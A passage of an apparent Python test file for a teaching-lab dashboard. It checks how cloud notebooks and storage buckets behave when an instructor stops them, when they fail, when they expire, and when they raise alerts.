    claimed = make_resource(learner, lab_settings, state="submitting", cloud_status="")
    # ...when the instructor stops every notebook, which notes the stop on the row.
    cohort_stop_notebooks(cohort=cohort, actor=instructor)

    # The worker's row is now older than the database's; the cloud's answer still counts.
    _record_submission(claimed, Observation(state="provisioning", cloud_status="Pending"))

    claimed.refresh_from_db()
    assert claimed.cloud_status == "Pending"
    assert claimed.state == "stopping"


def test_a_stop_noted_for_a_notebook_that_then_failed_is_forgotten(
    cohort, learner, instructor, lab_settings
):
    from labs.dashboard.services import cohort_stop_notebooks
    from labs.services.observation import Observation
    from labs.services.resources import resource_apply_observation

    notebook = make_resource(learner, lab_settings, state="submitting", cloud_status="")
    cohort_stop_notebooks(cohort=cohort, actor=instructor)
    notebook.refresh_from_db()

    resource_apply_observation(notebook, Observation(state="failed", cloud_status="Failed"))

    notebook.refresh_from_db()
    assert notebook.state == "failed"
    # Started again later by the learner, it is not stopped for the old request.
    assert "stop_when_started" not in notebook.details


def test_a_shorter_lab_time_deletes_nobodys_work_at_once(
    instructor_client, cohort, lab_settings, learner
):
    started = timezone.now() - timedelta(minutes=60)
    bucket = make_resource(
        learner, lab_settings, kind="bucket", lab="storage", cloud_name="data-bucket",
        cloud_status="Available", expires_at=started + timedelta(minutes=180),
    )  # fmt: skip

    instructor_client.post(
        f"/dashboard/{cohort.pk}/settings/", _settings_data(lab_settings, lab_ttl_minutes="15")
    )

    # Its next step is a delete (data and all): the expiry's grace from now, not at once.
    bucket.refresh_from_db()
    assert bucket.expires_at >= timezone.now() + timedelta(minutes=29)


def test_a_failed_notebook_is_an_alert(instructor_client, cohort, lab_settings, learner):
    make_resource(learner, lab_settings, state="failed", failure_reason="ResourceLimitExceeded")

    alerts = {a.kind: a for a in _page(instructor_client, cohort).context["dashboard"].alerts}

    assert any("ResourceLimitExceeded" in item for item in alerts["failed"].items)
